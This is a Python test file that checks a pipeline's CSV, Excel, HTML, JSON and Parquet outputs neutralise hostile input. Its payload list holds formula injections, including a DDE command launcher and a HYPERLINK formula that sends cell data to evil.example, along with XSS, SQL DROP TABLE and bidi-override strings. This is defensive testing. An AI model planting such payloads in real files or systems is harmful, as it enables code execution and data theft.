"""Hostile words: in every column of every file they stay words, and Parquet has them exactly."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from lxml import html

from pipeline.dataset import TABLES, VIEWS, Column, Dataset, as_text, columns, encodable
from pipeline.options import Options
from pipeline.run import extract
from pipeline.write import portion_of, writing
from pipeline.write.report.facts import Run
from tests.docx_builder import cell, package, row, table, write

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "\t=1+1",
    "\r\n=1+1",
    " \xa0\u3000=1+1",
    "\ufeff=1+1",
    "\u200b\u200e=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\u22121",
    "\uff20x",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    'http://x.org/"onmouseover=alert(1)//',
    "{{ 7 * 7 }}${7*7}#{7*7}",
    "&lt;b&gt;&amp;&#60;",
    "<r><t>x</t></r>",
    "]]>",
    '"; DROP TABLE meetings; --',
    "a,b;c\td|e",
    'say "hi"\r\nnext',
    "nul\x00nul",
    "esc\x1b[2J\x9b31m\x07",
    "turned \u202egnp.exe\u202c \u2066x\u2069",
    "half \ud800 and \udc00 half",
    "\ufffe\uffff",
    "_x0041_",
    "e\u0301\u0301" + "\u0301" * 50,
    "x" * 40_000,
]
PLAIN = ["words"] * len(PAYLOADS)
LEADS = "\ufeff\u200b\u200e\u202e \xa0\u3000\t\r\n"
SIGNS = tuple("=+-@＝＋－＠−")


RUN = Run(1, "command")


def value(column: Column, text: str, number: int) -> object:
    """A value for the column: the text where it holds any text."""
    if column.kind == "string":
        return column.enum[0] if column.enum else column.example if column.pattern else text
    return {"integer": number, "boolean": True}.get(column.kind)


def dataset_of(texts: list[str]) -> Dataset:
    """A dataset with each text in every column that holds text."""
    dataset = Dataset()
    for name in TABLES:
        rows = [
            {column.name: value(column, text, number) for column in columns(name)}
            for number, text in enumerate(texts, 1)
        ]
        if "report_id" in rows[0]:
            rows = [each | {"report_id": "r"} for each in rows]
        dataset.add(name, rows)
    return dataset


def written(dataset: Dataset, folder: Path) -> Path:
    """The files of the dataset."""
    with writing(folder, RUN, {}) as writer:
        writer.add(portion_of(dataset, None, RUN))
    return folder


@pytest.fixture(scope="module")
def dataset() -> Dataset:
    """The payloads in every column of text."""
    return dataset_of(PAYLOADS)


@pytest.fixture(scope="module")
def folder(dataset: Dataset, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Its files."""
    return written(dataset, tmp_path_factory.mktemp("values") / "output")


def cells(folder: Path, table: str) -> list[dict[str, str]]:
    """The rows of a CSV file."""
    with (folder / "csv" / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


@pytest.mark.parametrize("table", TABLES)
def test_parquet_is_exact(table: str, dataset: Dataset, folder: Path) -> None:
    """Every character, but for halves of surrogate pairs, which no file can hold."""
    rows = pq.read_table(folder / "parquet" / f"{table}.parquet").to_pylist()
    assert rows == [dict(each) for each in dataset[table]]
    texts = {text for each in rows for text in each.values() if isinstance(text, str)}
    assert {encodable(text) for text in PAYLOADS} <= texts


@pytest.mark.parametrize("table", [*TABLES, *VIEWS])
def test_no_cell_of_a_csv_file_is_a_formula(table: str, folder: Path) -> None:
    """Whatever stands before the sign."""
    rows = cells(folder, table)
    assert len(rows) == len(PAYLOADS)
    assert [text for each in rows for text in each.values() if text.strip(LEADS).startswith(SIGNS)] == []


@pytest.mark.parametrize("table", TABLES)
def test_csv_gives_the_words_back(table: str, dataset: Dataset, folder: Path) -> None:
    """But for the apostrophe before what would be run, and NUL."""
    for have, wanted in zip(cells(folder, table), dataset[table], strict=True):
        for name, text in have.items():
            whole = as_text(wanted[name]).replace("\x00", "\ufffd")
            assert text in {whole, f"'{whole}"}


@pytest.mark.parametrize("table", [*TABLES, *VIEWS])
def test_the_workbook_holds_words(table: str, folder: Path) -> None:
    """No formula; what an Excel cell can hold is there as it was."""
    sheet = openpyxl.load_workbook(folder / "wsis.xlsx")[table]
    found = [each for line in sheet.iter_rows(min_row=2) for each in line]
    assert {each.data_type for each in found} <= {"s", "n", "b", "d", "inlineStr"}
    links = {each.hyperlink.target for each in found if each.hyperlink and each.hyperlink.target}
    assert [target for target in links if not re.match(r"https?://|mailto:", target)] == []
    texts = {each.value for each in found if isinstance(each.value, str)}
    plain = {text for text in PAYLOADS if text.isprintable() and len(text) < 1_000 and "_x0041_" not in text}
    assert plain - {"javascript:alert(1)"} <= texts


def attributes(page: Path) -> Iterator[tuple[str, str]]:
    """Every tag and attribute of a page."""
    for element in html.parse(str(page)).iter("*"):
        yield str(element.tag), ""
        yield from ((str(element.tag), str(name)) for name in element.attrib)


def scripts(page: Path) -> int:
    """How many scripts a page has."""
    return sum(1 for _ in html.parse(str(page)).iter("script"))


def steering_links(page: Path) -> list[str]:
    """The addresses of links that would run or show something of their own."""
    found = [element.get("href", "") for element in html.parse(str(page)).iter("a")]
    return [address for address in found if re.match(r"\s*(?:javascript|data|vbscript):", address, re.I)]


def test_the_page_holds_words(folder: Path, tmp_path: Path) -> None:
    """The page has the tags and attributes that one of plain words has; nothing steers or turns it."""
    page = (folder / "validation.html").read_text(encoding="utf-8")
    plain = written(dataset_of(PLAIN), tmp_path / "output") / "validation.html"
    known = set(attributes(plain)) | {("a", "href"), ("a", "")}
    assert set(attributes(folder / "validation.html")) <= known
    assert steering_links(folder / "validation.html") == []
    assert scripts(folder / "validation.html") == scripts(plain)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)


def test_json_holds_words(dataset: Dataset, folder: Path) -> None:
    """Findings come back as they were."""
    told = json.loads((folder / "validation.json").read_text(encoding="utf-8"))
    assert [each["message"] for each in told["findings"]] == [each["message"] for each in dataset["findings"]]
    described = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert [each["document_id"] for each in described["sources"]] == [
        each["document_id"] for each in dataset["documents"]
    ]


HEADERS = ("Action Line", "Date", "Facilitators", "Participants", "Main themes", "Decisions", "Comments")
IN_XML = [
    text for text in PAYLOADS if re.fullmatch("[^\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]*", text)
]


def escaped(text: str) -> str:
    """Text as XML holds it."""
    for character, name in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ("\r", "&#13;"), ("\n", "&#10;")):
        text = text.replace(character, name)
    return text


def test_words_of_a_word_file(tmp_path: Path) -> None:
    """From the document to the files: no payload in any column becomes a formula or markup."""
    meetings = [
        row(cell(f"C{n % 11 + 1} " + escaped(text)), *(cell(escaped(text)) for _ in HEADERS[1:]))
        for n, text in enumerate(IN_XML)
    ]
    raw = tmp_path / "raw"
    raw.mkdir()
    body = table(row(*map(cell, HEADERS), properties="<w:tblHeader/>"), *meetings)
    write(package(body), raw / "=1+1 <b>.docx")
    result = extract(raw, tmp_path / "output", Options())
    assert [each.meetings for each in result.reports] == [len(IN_XML)]
    points = {each["text"] for each in cells(tmp_path / "output", "points")}
    assert "<script>alert(1)</script>" in points
    for name in (*TABLES, *VIEWS):
        texts = [text for each in cells(tmp_path / "output", name) for text in each.values()]
        assert [text for text in texts if text.strip(LEADS).startswith(SIGNS)] == []
    page = tmp_path / "output" / "validation.html"
    assert {("img", ""), ("b", ""), ("img", "onerror")}.isdisjoint(attributes(page))
    assert steering_links(page) == []
